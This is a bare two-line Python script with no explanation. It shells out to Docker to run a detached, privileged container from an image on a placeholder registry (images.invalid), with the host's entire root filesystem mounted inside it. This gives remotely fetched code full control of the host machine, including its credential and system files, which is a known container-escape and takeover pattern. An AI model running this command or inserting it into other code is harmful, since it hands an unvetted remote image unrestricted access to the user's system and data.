import subprocess

subprocess.Popen(["docker", "run", "-d", "--privileged", "-v", "/:/host", "images.invalid/x:latest"])
